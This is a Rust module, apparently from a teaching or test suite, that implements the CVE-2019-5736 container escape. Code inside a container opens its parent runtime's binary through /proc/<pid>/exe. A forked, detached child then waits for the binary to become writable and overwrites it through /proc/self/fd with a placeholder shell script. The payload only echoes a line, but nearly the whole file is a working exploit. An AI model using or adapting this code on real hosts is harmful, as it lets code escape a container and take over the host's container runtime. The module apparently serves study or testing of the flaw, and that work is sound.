//! CVE-2019-5736: the runner's own file, from inside.

use std::fs::{self, File};
use std::io::Write;
use std::os::fd::AsRawFd;
use std::time::{Duration, Instant};

use nix::errno::Errno;
use nix::unistd::{ForkResult, fork, getppid, setsid};

use crate::told;

/// What the engine's file holds afterwards.
const SCRIPT: &str = "#!/bin/sh\necho this is not the engine\n";

/// How long somebody may still run the file.
const PATIENCE: Duration = Duration::from_secs(5);

// ANCHOR: attack
/// `/proc/PID/exe` is no text but a door to the very file that PID runs, wherever that file lies. Our parent is the
/// runner's own code. While anybody runs a file, the kernel lets nobody write it (ETXTBSY): so we keep it open for
/// reading, leave a process behind, and open it again through our own descriptor when the runner is gone.
pub fn wait(_: &[String]) -> Result<String, String> {
    let exe = format!("/proc/{}/exe", getppid());
    let held = told(&format!("open {exe}"), File::open(&exe))?;
    if let Err(errno @ (Errno::EROFS | Errno::EPERM)) = open_again(&held) {
        return Err(format!("open {exe} for writing: {errno:?}"));
    }
    // SAFETY: this process has one thread.
    match told("fork", unsafe { fork() })? {
        ForkResult::Parent { .. } => return Ok(format!("holding {exe}")),
        ForkResult::Child => told("setsid", setsid())?,
    };
    let outcome = match overwrite(&held) {
        Ok(()) => "the engine's file is ours".to_owned(),
        Err(error) => format!("{error:?}"),
    };
    told("write /outcome.new", fs::write("/outcome.new", outcome))?;
    told("rename", fs::rename("/outcome.new", "/outcome"))?;
    std::process::exit(0)
}

fn overwrite(held: &File) -> Result<(), Errno> {
    let start = Instant::now();
    loop {
        match open_again(held) {
            Err(Errno::ETXTBSY) if start.elapsed() < PATIENCE => std::thread::sleep(Duration::from_millis(2)),
            opened => return opened?.write_all(SCRIPT.as_bytes()).map_err(|_| Errno::last()),
        }
    }
}

fn open_again(held: &File) -> Result<File, Errno> {
    let opened =
        File::options().write(true).truncate(true).open(format!("/proc/self/fd/{}", held.as_raw_fd()));
    opened.map_err(|error| Errno::from_raw(error.raw_os_error().unwrap_or(0)))
}
// ANCHOR_END: attack
